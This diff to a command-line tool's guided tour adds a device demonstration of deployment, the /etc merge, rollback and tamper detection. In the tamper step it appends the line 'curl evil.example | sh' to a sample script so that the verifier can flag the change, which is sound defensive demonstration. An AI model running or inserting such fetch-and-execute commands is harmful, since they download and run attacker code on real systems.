@@ -15,6 +15,9 @@ function writeSampleTree(root: string, version: string): void {
   w('usr/bin/hello', `#!/bin/sh\necho "hello from version ${version}"\n`, 0o755);
   w('usr/bin/passwd-helper', '#!/bin/sh\necho helper\n', 0o4755);
   w('usr/etc/motd', 'Welcome to Strata Demo OS\n');
+  w('usr/etc/hostname', 'demo\n');
+  w('usr/lib/modules/6.1.0-demo/vmlinuz', 'a kernel image\n');
+  w('usr/lib/modules/6.1.0-demo/initramfs.img', 'an initramfs\n');
   w('usr/share/doc/demo/README', 'x'.repeat(20000));
   fs.symlinkSync('usr/bin', path.join(root, 'bin'));
   fs.symlinkSync('../lib/os-release', path.join(root, 'usr/etc/os-release'));
@@ -24,7 +27,7 @@ function writeSampleTree(root: string, version: string): void {
 export function register(program: Command): void {
   program
     .command('tour')
-    .description('a short guided run on a temporary directory: init, commit, change, commit, log, diff, checkout, fsck')
+    .description('a short guided run on a temporary directory: a repository (commit, log, diff, checkout, fsck) and a device (deploy, /etc merge, status, rollback, verify)')
     .option('--keep', 'keep the temporary directory')
     .action(async (o: { keep?: boolean }) => {
       const { Repo } = await import('../../repo/repo.js');
@@ -80,9 +83,65 @@ export function register(program: Command): void {
         const bad = await fsck({ repo: repoPath });
         for (const p of bad.problems) out(`   ${p.status}: ${p.message.slice(0, 100)}\n     used at ${p.usedAt[0]}`);
         out(bad.problems.length ? '   fsck caught the change: deployments by hardlink share inodes with the repository' : '   (fsck saw nothing?)');
+
+        await deviceTour(work, step);
         out(`\nDone. ${o.keep ? `Everything is in ${work}` : 'Run with --keep to look around afterwards.'}`);
       } finally {
         if (!o.keep) fs.rmSync(work, { recursive: true, force: true });
       }
     });
+}
+
+/** The device half: a sysroot, two deployments, the /etc merge, rollback and tamper detection. */
+async function deviceTour(work: string, step: (n: number, text: string) => void): Promise<void> {
+  const { initFs, osInit } = await import('../../sysroot/init.js');
+  const { commit } = await import('../../repo/commit.js');
+  const { deploy } = await import('../../sysroot/deploy.js');
+  const { status } = await import('../../sysroot/status.js');
+  const { rollback } = await import('../../sysroot/manage.js');
+  const { verifyDeployment } = await import('../../sysroot/verify.js');
+  const sysroot = path.join(work, 'sysroot');
+  const repo = path.join(sysroot, 'ostree/repo');
+  const tree = path.join(work, 'device-tree');
+  const ref = 'demo/x86_64/stable';
+  const showStatus = (booted: string) => {
+    for (const d of status({ sysroot, booted }).deployments) {
+      const marks = [d.booted && 'booted', d.pending && 'pending', d.default && !d.pending && 'default', d.rollback && 'rollback'].filter(Boolean).join(', ');
+      out(`   ${d.index}  ${d.checksum.slice(0, 12)}.${d.serial}  v${d.version}  (${marks})`);
+    }
+  };
+
+  step(8, 'A device: an empty sysroot in OSTree\'s layout, and version 1.0 deployed');
+  initFs({ dir: sysroot });
+  osInit({ sysroot, stateroot: 'demo' });
+  out(`   strata admin init-fs ${sysroot}; strata admin os-init demo --sysroot ${sysroot}`);
+  writeSampleTree(tree, '1.0');
+  await commit({ repo, branch: ref, source: tree, subject: 'Demo OS 1.0', metadata: [['version', '1.0']] });
+  const first = await deploy({ sysroot, rev: ref, kargs: { set: ['console=ttyS0'] } });
+  const booted = path.join(sysroot, 'ostree/deploy/demo/deploy', `${first.deployment.checksum}.${first.deployment.serial}`);
+  out(`   strata admin deploy ${ref}: ${booted}`);
+  out('   boot entry:');
+  const entries = path.join(sysroot, 'boot/loader/entries');
+  for (const line of fs.readFileSync(path.join(entries, fs.readdirSync(entries)[0]), 'utf8').trim().split('\n')) out(`     ${line}`);
+
+  step(9, 'The admin edits /etc on the running 1.0; version 1.1 is deployed next to it');
+  fs.writeFileSync(path.join(booted, 'etc/motd'), 'Managed by the ops team\n');
+  fs.writeFileSync(path.join(tree, 'usr/lib/os-release'), 'NAME="Strata Demo OS"\nVERSION_ID=1.1\n');
+  fs.writeFileSync(path.join(tree, 'usr/etc/hostname'), 'demo-1-1\n');
+  await commit({ repo, branch: ref, source: tree, subject: 'Demo OS 1.1', metadata: [['version', '1.1']] });
+  const second = await deploy({ sysroot, rev: ref, booted });
+  const next = path.join(sysroot, 'ostree/deploy/demo/deploy', `${second.deployment.checksum}.${second.deployment.serial}`);
+  out(`   /etc/motd in 1.1 (kept, the admin changed it):      ${fs.readFileSync(path.join(next, 'etc/motd'), 'utf8').trim()}`);
+  out(`   /etc/hostname in 1.1 (untouched, follows the image): ${fs.readFileSync(path.join(next, 'etc/hostname'), 'utf8').trim()}`);
+  showStatus(booted);
+
+  step(10, 'Changed our mind before rebooting: roll back (one atomic switch of the boot configuration)');
+  rollback({ sysroot, booted });
+  showStatus(booted);
+
+  step(11, 'Tamper detection: something rewrites /usr/bin/hello in the running deployment');
+  fs.appendFileSync(path.join(booted, 'usr/bin/hello'), 'curl evil.example | sh\n');
+  const v = await verifyDeployment({ sysroot, booted });
+  for (const d of v.differences) out(`   ${d.kind}: ${d.path} (${d.what?.join(', ') ?? ''})`);
+  out(`   strata admin verify exits 1 on this; ${v.checked} entries checked`);
 }
